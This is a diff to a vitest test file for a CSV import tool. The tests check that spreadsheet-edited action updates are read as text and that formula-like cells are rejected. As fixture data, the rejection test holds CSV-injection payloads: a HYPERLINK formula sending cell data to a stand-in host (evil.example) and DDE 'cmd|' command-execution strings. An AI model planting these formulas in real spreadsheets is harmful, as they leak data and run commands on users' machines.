@@ -9,7 +9,7 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { importActions, parseCellDate } from '../../src/authoring/import.ts';
 import { checkContent } from '../../src/model/check.ts';
 import { actionColumns, actionsCsv } from '../../src/open-data/actions-csv.ts';
-import { parseCsv, toCsv } from '../../src/open-data/csv.ts';
+import { parseCsv } from '../../src/open-data/csv.ts';
 import { md, validTree, writeTree, type ContentTree, type Tree } from '../helpers/content-tree.ts';
 import { changedFiles, runScript, snapshotFiles } from './files.ts';
 
@@ -77,10 +77,14 @@ function publishedCsv(contentDir: string, partnership = 'hampshire'): string {
   return `\uFEFF${actionsCsv(index.partnership(partnership)!.actions, (a) => `/${a.partnership.id}/actions/${a.id}/`)}`;
 }
 
-/** The CSV with some cells changed: `edits[id][column] = value`. */
+/** CSV as a spreadsheet saves it: quoted where RFC 4180 needs it, and no apostrophe added before anything. */
+const spreadsheetCsv = (rows: string[][]) =>
+  rows.map((row) => row.map((v) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n') + '\r\n';
+
+/** The CSV with some cells changed, as a spreadsheet would save it: `edits[id][column] = value`. */
 function edited(csv: string, edits: Record<string, Partial<Record<(typeof actionColumns)[number], string>>>): string {
   const [header, ...rows] = parseCsv(csv).rows;
-  return toCsv([
+  return spreadsheetCsv([
     header,
     ...rows.map((row) => header.map((column, i) => edits[row[0]]?.[column as (typeof actionColumns)[number]] ?? row[i])),
   ]);
@@ -367,6 +371,101 @@ describe('npm run import', () => {
       '    hint: add --partnership with one of hampshire, hounslow',
     ]);
     expect(importActions({ csvPath, contentDir: tree.contentDir, partnership: 'hampshire', dryRun: true }).changes).toHaveLength(1);
+  });
+});
+
+describe('npm run import and spreadsheet formulas', () => {
+  /** Updates that start the way a formula does: Markdown lists, a dash for "nobody", a sum in words. */
+  const formulaLike: Tree = {
+    'hampshire/actions/list-update.md': md`
+      ---
+      title: '- Dashes and @mentions: a title'
+      order: 5
+      objective: understand-neglect
+      status: in-progress
+      progress:
+        - date: 2021-04-01
+          by: '-'
+          text: |-
+            - completed audit
+            - trained 40 staff
+      ---
+    `,
+    'hampshire/actions/sum-update.md': md`
+      ---
+      title: Count the referrals
+      order: 6
+      objective: understand-neglect
+      status: in-progress
+      progress:
+        - date: 2021-04-02
+          by: '@Chair'
+          text: '=2+2 is four, and +1 more: 5 referrals.'
+      ---
+    `,
+  };
+
+  it('reads back the apostrophes actions.csv adds, so an unchanged export changes nothing, byte for byte', () => {
+    const { csvPath, contentDir, write } = setUp(formulaLike);
+    const csv = publishedCsv(contentDir);
+    expect(csv).toContain(`"'- completed audit\n- trained 40 staff"`);
+    write(csv);
+    const before = snapshotFiles(contentDir);
+    const result = importActions({ csvPath, contentDir });
+    expect(stable(result.report)).toBe('No changes: every action in actions.csv already matches its file (6 checked).');
+    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
+  });
+
+  it('takes a list written in a spreadsheet, without the apostrophe, as text', () => {
+    const { csvPath, contentDir, write } = setUp(formulaLike);
+    write(
+      edited(publishedCsv(contentDir), {
+        'list-update': { last_update_by: '-', last_update_text: '- completed audit\n- trained 40 staff' },
+        'deliver-training': { last_update_date: '2021-06-30', last_update_text: '- sessions delivered\n+ 120 staff attended' },
+      }),
+    );
+    const result = importActions({ csvPath, contentDir });
+    expect(result.exitCode, result.report).toBe(0);
+    expect(result.changes.map((c) => c.file)).toEqual([expect.stringMatching(/deliver-training\.md$/)]);
+    const action = checkContent(contentDir)
+      .index.partnership('hampshire')!
+      .actions.find((a) => a.id === 'deliver-training')!;
+    expect(action.entry.data.progress.at(-1)).toEqual({ date: '2021-06-30', text: '- sessions delivered\n+ 120 staff attended' });
+  });
+
+  it('refuses a formula in any imported column, naming the row, the column and what to do, and writes nothing', () => {
+    const { csvPath, contentDir, write } = setUp();
+    write(
+      edited(publishedCsv(contentDir), {
+        'deliver-training': { last_update_date: '2021-06-30', last_update_text: '=HYPERLINK("https://evil.example/?d="&A1,"Report")' },
+        'windows-file': { last_update_date: '2021-06-30', last_update_by: '@SUM(1+1)', last_update_text: 'Audit done.' },
+        'flow-style': { status: "+cmd|' /C calc'!A0" },
+        'empty-progress': { rag: '=1+1', last_update_date: '2021-06-30', last_update_text: "-2+3+cmd|' /C calc'!A0" },
+      }),
+    );
+    const before = snapshotFiles(contentDir);
+    const result = importActions({ csvPath, contentDir });
+    expect(result.exitCode).toBe(1);
+    expect(stable(result.report)).toMatchInlineSnapshot(`
+      "error actions.csv row 2
+          last_update_text: "=HYPERLINK("https://evil.example/?d="&A1,"Report")" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+      error actions.csv row 3
+          last_update_by: "@SUM(1+1)" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+      error actions.csv row 4
+          status: "+cmd|' /C calc'!A0" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+      error actions.csv row 5
+          rag: "=1+1" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+      error actions.csv row 5
+          last_update_text: "-2+3+cmd|' /C calc'!A0" is a spreadsheet formula, not text
+          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+
+      5 problems found. Nothing was written; fix the spreadsheet and run the import again."
+    `);
+    expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
   });
 });
 
